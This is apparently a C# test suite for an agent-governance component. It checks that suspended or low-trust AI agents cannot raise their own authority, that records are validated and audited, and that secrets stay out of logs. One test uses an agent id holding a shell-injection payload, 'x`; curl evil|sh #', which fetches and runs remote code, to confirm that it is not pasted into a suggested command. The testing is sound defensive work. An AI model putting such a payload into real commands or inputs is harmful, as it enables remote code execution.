using PolicyGuard.Calls;
using PolicyGuard.Governance;
using PolicyGuard.Registry;

namespace PolicyGuard.Tests.Governance;

/// <summary>What may become of agents' records, and who may do it.</summary>
public sealed class AgentDeskTests
{
    private readonly GovernanceFixture _world = new();
    private readonly AgentDesk _desk;

    public AgentDeskTests() => _desk = new AgentDesk(_world.Services);

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task A_new_agent_gets_medium_trust_and_what_was_said_of_it()
    {
        var outcome = await RegisterAsync(GovernanceFixture.Local("a"), new AgentRegistration("bot")
        {
            Description = "does things", AllowedTools = ["read_*", "read_*"], Metadata = """{ "b": 1, "a": [] }""",
        });

        var agent = outcome.Value!.Agent;
        Assert.True(outcome.Value.Created);
        Assert.Equal(("bot", "bot", TrustLevel.Medium, AgentStatus.Active, false, """{"a":[],"b":1}"""), (agent.Id, agent.Name, agent.Trust, agent.Status, agent.AutoRegistered, agent.Metadata));
        Assert.Equal(["read_*"], agent.AllowedTools);
        Assert.Equal("local (a)", agent.UpdatedBy);
        Assert.Equal([Reasons.AgentRegistered], _world.Reasons);
    }

    [Fact]
    public async Task Everything_that_is_wrong_is_said_at_once_and_nothing_is_stored_or_logged()
    {
        var outcome = await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration(" bot")
        {
            Name = "two\nlines", Trust = "superadmin", AllowedTools = ["[", ""], DeniedTools = [.. Enumerable.Repeat("x", 257)], Metadata = """{"a":1,"a":2}""", Description = new string('x', 5000), Note = "\u202e",
        });

        Assert.Equal(Reasons.ActInvalid, outcome.Refusal!.Reason);
        Assert.Collection(
            outcome.Errors,
            e => Assert.StartsWith("agent_id:", e), e => Assert.StartsWith("name:", e), e => Assert.StartsWith("description:", e), e => Assert.StartsWith("note:", e),
            e => Assert.StartsWith("Invalid trust level 'superadmin'", e),
            e => Assert.StartsWith("allowed_tools[0]:", e), e => Assert.StartsWith("allowed_tools[1]:", e), e => Assert.StartsWith("denied_tools:", e), e => Assert.StartsWith("metadata:", e));
        Assert.Empty(await _world.Agents.ListAsync(Ct));
        Assert.Empty(_world.Reasons);
    }

    [Theory]
    [InlineData("")]
    [InlineData(" ")]
    [InlineData("a\u200bb")]
    [InlineData("a\nb")]
    [InlineData("half a pair")]
    public async Task An_id_that_prints_as_another_or_not_at_all_is_refused(string id)
    {
        // An attribute cannot hold half a surrogate pair.
        id = id == "half a pair" ? "\ud800" : id;
        Assert.Equal(Reasons.ActInvalid, (await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration(id))).Refusal!.Reason);
        Assert.Equal(Reasons.ActInvalid, (await _desk.SuspendAsync(GovernanceFixture.Operator, id, null, Ct)).Refusal!.Reason);
        Assert.Equal(Reasons.ActInvalid, (await _desk.ReinstateAsync(GovernanceFixture.Operator, id, null, Ct)).Refusal!.Reason);
        Assert.Equal(Reasons.ActUnknown, (await _desk.ShowAsync(GovernanceFixture.Operator, id, Ct)).Refusal!.Reason);
        Assert.Equal(Reasons.ActUnknown, (await _desk.HistoryAsync(GovernanceFixture.Operator, id, 10, Ct)).Refusal!.Reason);
    }

    [Theory]
    [InlineData("null")]
    [InlineData("[]")]
    [InlineData("\"x\"")]
    [InlineData("{\"a\":\"\\ud800\"}")]
    [InlineData("{} {}")]
    [InlineData("{")]
    public async Task Metadata_that_is_no_object_is_refused(string metadata) =>
        Assert.StartsWith("metadata:", Assert.Single((await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("a") { Metadata = metadata })).Errors));

    [Theory]
    [InlineData("read.*", "a.*b")]
    [InlineData("a|b*", "(+x")]
    public async Task The_seeds_broken_patterns_either_mean_themselves_or_are_refused_but_never_break_later_calls(params string[] patterns)
    {
        var outcome = await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("a") { DeniedTools = patterns });

        if (outcome.Done)
        {
            Assert.All(outcome.Value!.Agent.DeniedTools, pattern => PolicyGuard.Text.NamePattern.OfGlob(pattern));
        }
        else
        {
            Assert.Equal(Reasons.ActInvalid, outcome.Refusal!.Reason);
        }
    }

    [Fact]
    public async Task Doubtful_agents_are_registered_with_warnings()
    {
        var admin = await RegisterAsync(GovernanceFixture.Local("a"), new AgentRegistration("boss") { Trust = "Admin", AllowedTools = ["*"] });
        Assert.Contains("ADMIN", Assert.Single(admin.Warnings));
        Assert.Contains("No tool restrictions", Assert.Single((await RegisterAsync(GovernanceFixture.Local("a"), new AgentRegistration("free"))).Warnings));
    }

    [Fact]
    public async Task An_update_keeps_what_it_does_not_name_and_when_the_agent_was_registered()
    {
        var first = (await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("a")
        {
            Name = "A", Description = "D", Trust = "high", AllowedTools = ["x_*"], DeniedTools = ["y"], Metadata = """{"k":1}""",
        })).Value!.Agent;
        _world.Clock.Advance(TimeSpan.FromDays(1));
        var outcome = await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("a") { Description = "E" });

        var second = outcome.Value!.Agent;
        Assert.False(outcome.Value.Created);
        Assert.Equal(first with { Description = "E", Version = 2, UpdatedAt = second.UpdatedAt, AllowedTools = second.AllowedTools, DeniedTools = second.DeniedTools }, second);
        Assert.Equal(["x_*", "y"], second.AllowedTools.Concat(second.DeniedTools));
        Assert.Equal("description", Assert.Single(outcome.Value.Changes).Member);
    }

    [Fact]
    public async Task What_changes_nothing_makes_no_version_and_no_entry()
    {
        await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("a"));
        var again = await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("a") { Trust = "medium" });

        Assert.Equal(1, again.Value!.Agent.Version);
        Assert.Empty(again.Value.Changes);
        Assert.Single(_world.Reasons);
    }

    [Fact]
    public async Task An_update_never_lifts_a_suspension_not_even_an_operators()
    {
        await SuspendedAsync("a");
        var outcome = await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("a") { Trust = "admin", Name = "new" });

        Assert.Equal((AgentStatus.Suspended, "why", TrustLevel.Admin), (outcome.Value!.Agent.Status, outcome.Value.Agent.SuspensionReason, outcome.Value.Agent.Trust));
    }

    // The hole of an earlier program: one call of its own made a suspended agent an active administrator.
    [Fact]
    public async Task A_suspended_agent_can_do_nothing_for_itself_or_to_others_in_either_mode()
    {
        await SuspendedAsync("bad");
        await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("rival"));
        var before = await _world.Agents.ListAsync(Ct);
        foreach (var actor in new[] { GovernanceFixture.Local("bad"), GovernanceFixture.Key(Role.Admin, "bad"), GovernanceFixture.Key(Role.Agent, "bad") })
        {
            Assert.Equal(Reasons.AgentSuspended, (await RegisterAsync(actor, new AgentRegistration("bad") { Trust = "admin" })).Refusal!.Reason);
            Assert.Equal(Reasons.AgentSuspended, (await RegisterAsync(actor, new AgentRegistration("bad2"))).Refusal!.Reason);
            Assert.Equal(Reasons.AgentSuspended, (await _desk.ReinstateAsync(actor, "bad", "please", Ct)).Refusal!.Reason);
            Assert.Equal(Reasons.AgentSuspended, (await _desk.SuspendAsync(actor, "rival", "revenge", Ct)).Refusal!.Reason);
            Assert.Equal(Reasons.AgentSuspended, (await _desk.ListAsync(actor, Ct)).Refusal!.Reason);
            Assert.Equal(Reasons.AgentSuspended, (await _desk.ShowAsync(actor, "rival", Ct)).Refusal!.Reason);
            Assert.Equal(Reasons.AgentSuspended, (await _desk.HistoryAsync(actor, "rival", 1, Ct)).Refusal!.Reason);
        }

        Assert.Equal(before, await _world.Agents.ListAsync(Ct));
        Assert.Equal(12, _world.Reasons.Count(static reason => reason == Reasons.AgentSuspended));
    }

    [Fact]
    public async Task In_single_user_mode_no_agent_raises_or_reinstates_anybody_itself_least_of_all()
    {
        await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("low") { Trust = "low", AllowedTools = ["read_*"], DeniedTools = ["delete_*"] });
        await SuspendedAsync("friend");
        var actor = GovernanceFixture.Local("low");
        foreach (var request in new[]
        {
            new AgentRegistration("low") { Trust = "medium" }, new AgentRegistration("low") { Trust = "admin", Description = "nothing to see" },
            new AgentRegistration("low") { AllowedTools = [] }, new AgentRegistration("low") { AllowedTools = ["read_*", "write_*"] }, new AgentRegistration("low") { AllowedTools = ["*"] },
            new AgentRegistration("low") { DeniedTools = [] }, new AgentRegistration("low") { DeniedTools = ["delete_x"] }, new AgentRegistration("friend") { Trust = "high" },
        })
        {
            var refusal = (await RegisterAsync(actor, request)).Refusal!;
            Assert.Equal(Reasons.AuthorityLoosens, refusal.Reason);
            Assert.Contains($"policyguard agent register {request.Id}", refusal.Message);
        }

        var reinstated = (await _desk.ReinstateAsync(actor, "friend", "a favour", Ct)).Refusal!;
        Assert.Equal(Reasons.AuthorityLoosens, reinstated.Reason);
        Assert.Contains("policyguard agent reinstate friend", reinstated.Message);
        Assert.Equal((TrustLevel.Low, 1L), await LevelAsync("low"));
        Assert.Equal(AgentStatus.Suspended, (await _world.Agents.FindAsync("friend", Ct))!.Status);
        Assert.Equal(9, _world.Reasons.Count(static reason => reason == Reasons.AuthorityLoosens));
    }

    [Fact]
    public async Task Lowering_and_narrowing_are_free_in_single_user_mode_and_written_down()
    {
        await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("a") { Trust = "high", AllowedTools = ["*", "x"], DeniedTools = ["d"] });
        var outcome = await RegisterAsync(GovernanceFixture.Local("b"), new AgentRegistration("a") { Trust = "low", AllowedTools = ["read_*"], DeniedTools = ["e", "d"] });

        Assert.True(outcome.Done);
        Assert.DoesNotContain(outcome.Value!.Changes, static change => change.Loosens);
        Assert.True((await _desk.SuspendAsync(GovernanceFixture.Local("b"), "a", "odd", Ct)).Done);
        Assert.Equal([Reasons.AgentRegistered, Reasons.AgentChanged, Reasons.AgentSuspension], _world.Reasons);
        Assert.Equal("b", _world.Log.Records[1].Agent);
        Assert.Equal("a", _world.Log.Records[1].Target);
    }

    // An agent that calls first and is registered afterwards: the record exists, whoever made it.
    [Fact]
    public async Task What_a_first_call_registered_is_no_new_agent_that_anybody_may_raise()
    {
        await _world.Agents.GetOrRegisterAsync("seen", Ct);
        var raised = await RegisterAsync(GovernanceFixture.Local("seen"), new AgentRegistration("seen") { Trust = "medium" });
        Assert.Equal(Reasons.AuthorityLoosens, raised.Refusal!.Reason);
        Assert.Contains("policyguard agent register seen --trust medium", raised.Refusal.Message);

        var named = await RegisterAsync(GovernanceFixture.Local("seen"), new AgentRegistration("seen") { Name = "Seen" });
        Assert.Equal((TrustLevel.Low, false, "Seen"), (named.Value!.Agent.Trust, named.Value.Agent.AutoRegistered, named.Value.Agent.Name));

        Assert.Equal(TrustLevel.Medium, (await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("seen") { Trust = "medium" })).Value!.Agent.Trust);
    }

    [Theory]
    [InlineData(Role.Agent)]
    [InlineData(Role.Auditor)]
    [InlineData(Role.Approver)]
    public async Task With_keys_only_administrators_touch_agents(Role role)
    {
        await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("rival"));
        var actor = GovernanceFixture.Key(role, "me");

        Assert.Equal(Reasons.AuthorityMissing, (await RegisterAsync(actor, new AgentRegistration("new"))).Refusal!.Reason);
        Assert.Equal(Reasons.AuthorityMissing, (await RegisterAsync(actor, new AgentRegistration("me") { Trust = "admin" })).Refusal!.Reason);
        Assert.Equal(Reasons.AuthorityMissing, (await _desk.SuspendAsync(actor, "rival", "x", Ct)).Refusal!.Reason);
        Assert.Equal(Reasons.AuthorityMissing, (await _desk.ReinstateAsync(actor, "rival", "x", Ct)).Refusal!.Reason);
        Assert.Single(await _world.Agents.ListAsync(Ct));
    }

    [Fact]
    public async Task With_keys_an_administrator_does_what_the_seeds_administrator_did()
    {
        var actor = GovernanceFixture.Key(Role.Admin, "boss");
        Assert.True((await RegisterAsync(actor, new AgentRegistration("a") { Trust = "low" })).Done);
        Assert.True((await RegisterAsync(actor, new AgentRegistration("a") { Trust = "admin" })).Done);
        Assert.True((await _desk.SuspendAsync(actor, "a", "x", Ct)).Done);
        Assert.True((await _desk.ReinstateAsync(actor, "a", "y", Ct)).Done);
        Assert.Equal([Reasons.AgentRegistered, Reasons.AgentChanged, Reasons.AgentSuspension, Reasons.AgentReinstated], _world.Reasons);
    }

    [Fact]
    public async Task Who_proved_nothing_registers_and_suspends_nobody()
    {
        foreach (var actor in new[] { Actor.LocalClient(Caller.Anonymous, new AgentRef("x", false)), Actor.Authenticated(Caller.Local, null, new AgentRef("x", false)) })
        {
            Assert.Equal(Reasons.AuthorityMissing, (await RegisterAsync(actor, new AgentRegistration("y"))).Refusal!.Reason);
        }
    }

    [Fact]
    public async Task A_name_made_to_be_pasted_into_a_shell_is_not_put_into_the_command_that_is_suggested()
    {
        const string id = "x`; curl evil|sh #";
        await _world.Agents.GetOrRegisterAsync(id, Ct);
        var refusal = (await RegisterAsync(GovernanceFixture.Local("a"), new AgentRegistration(id) { Trust = "high" })).Refusal!;

        Assert.Contains("policyguard agent register <id> --trust high", refusal.Message);
    }

    [Fact]
    public async Task The_first_reason_of_a_suspension_stays()
    {
        await SuspendedAsync("a");
        Assert.Empty((await _desk.SuspendAsync(GovernanceFixture.Operator, "a", "another", Ct)).Value!.Changes);
        Assert.Equal("why", (await _world.Agents.FindAsync("a", Ct))!.SuspensionReason);
    }

    [Fact]
    public async Task An_agent_that_nobody_knows_is_neither_suspended_nor_created()
    {
        Assert.Equal(Reasons.ActUnknown, (await _desk.SuspendAsync(GovernanceFixture.Operator, "ghost", "x", Ct)).Refusal!.Reason);
        Assert.Equal(Reasons.ActUnknown, (await _desk.ReinstateAsync(GovernanceFixture.Operator, "ghost", "x", Ct)).Refusal!.Reason);
        Assert.Empty(await _world.Agents.ListAsync(Ct));
    }

    [Fact]
    public async Task History_says_who_changed_what_when_and_why()
    {
        await _world.Agents.GetOrRegisterAsync("a", Ct);
        _world.Clock.Advance(TimeSpan.FromMinutes(1));
        await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("a") { Trust = "high", Note = "ticket 7" });
        await _desk.SuspendAsync(GovernanceFixture.Key(Role.Admin, "boss"), "a", "leak", Ct);

        var history = (await _desk.HistoryAsync(GovernanceFixture.Operator, "a", 2, Ct)).Value!;
        Assert.Equal([(3L, "key:key_1 (boss)", "leak"), (2L, "cli:root", "ticket 7")], history.Select(static version => (version.Version, version.By, version.Note!)));
        Assert.Equal(["status", "suspension_reason"], history[0].Changes.Select(static change => change.Member));
        Assert.Contains(new AgentChange("trust_level", "\"low\"", "\"high\"", Loosens: true), history[1].Changes);
        Assert.Equal("gate", (await _desk.HistoryAsync(GovernanceFixture.Operator, "a", 3, Ct)).Value![2].By);
        Assert.Equal(Reasons.ActInvalid, (await _desk.HistoryAsync(GovernanceFixture.Operator, "a", 0, Ct)).Refusal!.Reason);
    }

    [Fact]
    public async Task A_change_that_races_with_another_is_judged_again_by_what_is_there_then()
    {
        await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("a") { Trust = "high" });
        var raced = false;
        _world.Agents.OnPut = agent =>
        {
            if (!raced)
            {
                // Meanwhile somebody lowers it: what was a lowering when it was judged would now raise it.
                raced = true;
                _desk.RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("a") { Trust = "low" }, Ct).AsTask().Wait(Ct);
            }
        };
        var outcome = await RegisterAsync(GovernanceFixture.Local("b"), new AgentRegistration("a") { Trust = "medium" });

        Assert.Equal(Reasons.AuthorityLoosens, outcome.Refusal!.Reason);
        Assert.Equal((TrustLevel.Low, 2L), await LevelAsync("a"));
        Assert.Contains(Reasons.ActFailed, _world.Reasons);
    }

    [Fact]
    public async Task A_suspension_that_comes_between_reading_and_writing_survives()
    {
        await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("a"));
        var raced = false;
        _world.Agents.OnPut = agent =>
        {
            if (!raced)
            {
                raced = true;
                _desk.SuspendAsync(GovernanceFixture.Operator, "a", "stop", Ct).AsTask().Wait(Ct);
            }
        };
        var outcome = await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("a") { Trust = "admin" });

        Assert.Equal((AgentStatus.Suspended, TrustLevel.Admin), (outcome.Value!.Agent.Status, outcome.Value.Agent.Trust));
    }

    [Fact]
    public async Task Endless_conflicts_end_in_a_refusal()
    {
        await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("a"));
        _world.Agents.OnPut = _ => throw new RegistryException("changed") { IsConflict = true };
        Assert.Equal(Reasons.ActConflict, (await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("a") { Trust = "low" })).Refusal!.Reason);
    }

    [Fact]
    public async Task What_cannot_be_written_down_is_not_done()
    {
        _world.Log.Fault = "disk full";
        Assert.Equal(Reasons.LedgerUnavailable, (await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("a"))).Refusal!.Reason);
        Assert.Empty(await _world.Agents.ListAsync(Ct));
        Assert.NotEmpty(_world.Faults);
    }

    [Fact]
    public async Task What_was_written_down_and_not_done_is_followed_by_an_entry_that_says_so()
    {
        _world.Agents.OnPut = _ => throw new RegistryException("disk full");
        Assert.Equal(Reasons.RegistryUnavailable, (await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("a"))).Refusal!.Reason);
        Assert.Equal([Reasons.AgentRegistered, Reasons.ActFailed], _world.Reasons);
    }

    [Fact]
    public async Task A_registry_that_cannot_be_read_lets_nobody_do_anything()
    {
        _world.Agents.Fault = new RegistryException("corrupt");
        Assert.Equal(Reasons.RegistryUnavailable, (await RegisterAsync(GovernanceFixture.Local("a"), new AgentRegistration("b"))).Refusal!.Reason);
        Assert.Empty(_world.Reasons);
    }

    [Fact]
    public async Task An_unreadable_speaker_is_refused_instead_of_breaking_the_store()
    {
        var outcome = await RegisterAsync(GovernanceFixture.Local(new string('x', 300)), new AgentRegistration("b"));
        Assert.Equal(Reasons.AgentInvalid, outcome.Refusal!.Reason);
    }

    [Fact]
    public async Task Secrets_in_what_is_said_of_an_agent_do_not_reach_the_log()
    {
        const string secret = "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB";
        await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("a") { Description = $"uses {secret}", Note = secret, Metadata = $$"""{"token":"{{secret}}"}""" });
        Assert.DoesNotContain(secret, System.Text.Encoding.UTF8.GetString(_world.Log.Records[0].Json.Span));
    }

    [Fact]
    public async Task A_record_that_another_hand_broke_can_still_be_changed_and_shown()
    {
        await _world.Agents.PutAsync(new Agent { Id = "a", Metadata = "not json" }, Ct);
        Assert.True((await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration("a") { Metadata = "{}" })).Done);
        Assert.Contains((await _desk.HistoryAsync(GovernanceFixture.Operator, "a", 1, Ct)).Value![0].Changes, static change => change is { Member: "metadata", From: "\"not json\"" });
    }

    private async Task SuspendedAsync(string id)
    {
        await RegisterAsync(GovernanceFixture.Operator, new AgentRegistration(id) { Trust = "low" });
        Assert.True((await _desk.SuspendAsync(GovernanceFixture.Operator, id, "why", Ct)).Done);
    }

    private async Task<(TrustLevel Trust, long Version)> LevelAsync(string id) => await _world.Agents.FindAsync(id, Ct) is { } agent ? (agent.Trust, agent.Version) : default;

    private Task<Outcome<AgentRegistered>> RegisterAsync(Actor actor, AgentRegistration request) => _desk.RegisterAsync(actor, request, Ct).AsTask();
}
